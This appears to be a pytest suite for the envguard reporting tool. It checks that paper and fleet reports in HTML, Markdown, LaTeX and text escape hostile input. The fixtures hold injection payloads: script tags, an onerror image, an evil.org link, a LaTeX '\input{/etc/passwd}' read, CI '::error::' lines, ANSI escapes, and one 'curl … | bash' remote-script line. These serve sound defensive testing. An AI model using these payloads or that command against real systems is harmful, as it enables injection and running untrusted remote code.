"""A paper's report and a fleet's as pages: as recorded, and deaf to a stranger's words."""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from envguard.cli.front import main
from envguard.engine.fleet.earlier import read_earlier
from envguard.engine.fleet.model import Fleet
from envguard.engine.fleet.running import FleetRequest, run_fleet
from envguard.engine.paper.writing import write_paper
from envguard.project import settings as settings_files
from envguard.reports.fleet import html as fleet_html
from envguard.reports.fleet import json as fleet_json
from envguard.reports.fleet import text as fleet_text
from envguard.reports.paper import html, markdown, texts

ROOT = Path(__file__).resolve().parents[2]
PROJECTS = ROOT / "fixtures" / "projects"
GOLDEN = Path(__file__).parent / "golden"
RENDER = {"html": html.render, "markdown": markdown.render}


def page(folder: Path, kind: str, anonymous: bool = False) -> str:
    settings_files.forget()
    return RENDER[kind](write_paper(str(folder), anonymous, "2026-11-01")[0])


@pytest.mark.parametrize("kind", ["html", "markdown"])
@pytest.mark.parametrize(
    ("name", "anonymous"),
    [("paper-signed", False), ("paper-signed", True), ("paper-stale", False), ("paper", False)],
)
def test_a_paper_says_what_is_recorded(name: str, anonymous: bool, kind: str) -> None:
    # how many rules there are changes with every new one
    text = re.sub(r"\d+ rules of", "… rules of", page(PROJECTS / name, kind, anonymous))
    recorded = GOLDEN / f"{name}{'-anonymous' if anonymous else ''}.{kind}"
    if os.environ.get("UPDATE_GOLDEN"):
        recorded.write_text(text, encoding="utf-8")
    assert text == recorded.read_text(encoding="utf-8")


EVIL = (
    "</code><script>alert(1)</script> ``` ` | [a](https://evil.org) ::error::y %0A "
    "\\\\input{/etc/passwd} $x$ #1 @everyone <img src=x onerror=alert(1)>"
)
HOSTILE = {
    "environment.yml": (
        f'name: "{EVIL}"\nchannels:\n  - conda-forge\n  - "{EVIL}"\nplatforms: ["{EVIL}"]\n'
        f'dependencies:\n  - python=3.11\n  - "numpy >=1 {EVIL}"\n'
    ),
    "<script>alert(1)<.sh": "curl -s https://x.org/i.sh | bash\n",
    "a\n::error::b\x1b[31m.sh": "pip install numpy\n",
    "![x](data:,) ``` ~~~ |.sh": "pip install numpy\n",
    "\\input{x}_$y$&.sh": "#SBATCH --mem=1G\npip install numpy\n",
    "README.md": f"{EVIL}\n",
    "uv.lock": 'version = 1\n\n[[package]]\nname = "<b>six"\nversion = "1}\\\\x"\n',
}


class _Tags(HTMLParser):
    """The tags of a page, and the addresses that it leads to."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: list[str] = []
        self.addresses: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.handlers.append(name)
            if name in ("href", "src"):
                self.addresses.add(value or "")


@pytest.fixture
def stranger(tmp_path: Path) -> Path:
    for name, content in HOSTILE.items():
        (tmp_path / name).write_text(content, encoding="utf-8")
    (tmp_path / ".git").mkdir()
    return tmp_path


def harmless(text: str) -> None:
    tags = _Tags()
    tags.feed(text)
    assert not tags.tags & {"script", "img", "iframe", "object", "embed", "form", "base"}
    assert tags.handlers == []
    for address in tags.addresses:
        assert re.match(
            r"#|data:,|https://(envguard-lint|www\.acm|neurips|2021\.naacl|acl)", address
        )
    assert "\x1b" not in text


@pytest.mark.parametrize("anonymous", [False, True])
def test_no_word_of_a_stranger_is_markup_on_the_page(stranger: Path, anonymous: bool) -> None:
    harmless(page(stranger, "html", anonymous))


@pytest.mark.parametrize("anonymous", [False, True])
def test_no_word_of_a_stranger_is_markup_in_markdown(stranger: Path, anonymous: bool) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    text = page(stranger, "markdown", anonymous)
    shown = markdown_it.MarkdownIt("gfm-like", {"linkify": False}).render(text)
    # how a column of numbers is aligned
    harmless(shown.replace(' style="text-align:right"', ""))
    assert not re.search(r"^::", text, re.MULTILINE)


def test_no_word_of_a_stranger_is_a_command_of_latex() -> None:
    said = texts.latex(r"\input{/etc/passwd} $x$ #1 a_b 50% ~ ^ & <a|b>")
    assert re.findall(r"\\[A-Za-z]+", said) == [
        r"\textbackslash", r"\textasciitilde", r"\textasciicircum", r"\textless", r"\textbar",
        r"\textgreater",
    ]  # fmt: skip
    assert r"\textbackslash{}input\{/etc/passwd\} \$x\$ \#1 a\_b 50\%" in said


def test_two_hyphens_of_a_command_stay_two_in_latex() -> None:
    settings_files.forget()
    paper = write_paper(str(PROJECTS / "paper-signed"), False, "2026-11-01")[0]
    assert r"install -{}-name trees" in texts.methods_latex(paper)
    assert "install --name trees" in texts.methods_text(paper)


def test_code_in_markdown_holds_any_backticks() -> None:
    assert texts.code_span("a``b") == "``` a``b ```"
    assert texts.fenced("```\nx\n```", "sh").startswith("````sh\n")


def test_a_page_without_script_allows_none() -> None:
    text = page(PROJECTS / "paper-signed", "html")
    assert "script-src" not in text
    assert "default-src 'none'" in text


@pytest.mark.parametrize(
    ("name", "code"), [("paper-signed", 0), ("paper-stale", 1), ("no-such-folder", 2)]
)
def test_the_exit_code_says_whether_it_is_ready(
    name: str, code: int, capsys: pytest.CaptureFixture[str]
) -> None:
    settings_files.forget()
    assert main(["report", str(PROJECTS / name), "--as-of", "2026-11-01"]) == code
    assert capsys.readouterr().out.startswith("<!doctype html>") is (code < 2)


def test_the_name_of_the_output_chooses_the_format(tmp_path: Path) -> None:
    settings_files.forget()
    target = tmp_path / "report.md"
    main(["report", str(PROJECTS / "paper-signed"), "--output", str(target)])
    assert target.read_text(encoding="utf-8").startswith("# Reproducibility report")


def fleet_of(folder: Path, since: Path | None = None) -> Fleet:
    earlier = read_earlier(str(since)) if since else None
    request = FleetRequest((str(folder),), as_of="2026-11-01", jobs=1)
    return run_fleet(request, earlier, lambda name: None)


def test_a_fleet_is_valid_by_its_schema_and_harmless(stranger: Path, tmp_path: Path) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads((ROOT / "docs" / "schemas" / "fleet-1.json").read_text(encoding="utf-8"))
    validator = jsonschema.validators.validator_for(schema)(schema)
    first = fleet_of(stranger)
    document = json.loads(fleet_json.render(first))
    assert list(validator.iter_errors(document)) == []
    document["repositories"].append({**document["repositories"][0], "name": EVIL})
    document["repositories"][0]["findings"][0].update(fingerprint="0" * 32, message=EVIL, path=EVIL)
    before = tmp_path / "before.json"
    before.write_text(json.dumps(document), encoding="utf-8")
    second = fleet_of(stranger, before)
    assert list(validator.iter_errors(json.loads(fleet_json.render(second)))) == []
    assert len(second.repositories[0].fixed) == 1
    harmless(fleet_html.render(second))
    lines = fleet_text.render(second)
    assert "\x1b" not in lines
    assert not re.search(r"^\s*::", lines, re.MULTILINE)


def test_fleet_prints_and_writes_and_says_by_its_code(
    stranger: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "fleet.html"
    assert main(["fleet", str(stranger), "--jobs", "1", "--output", f"html={target}"]) == 1
    assert "1 repository" in capsys.readouterr().out
    assert target.read_text(encoding="utf-8").startswith("<!doctype html>")
    assert main(["fleet", str(stranger), "--since", str(target)]) == 2
    assert main(["fleet", str(tmp_path / "nowhere")]) == 2
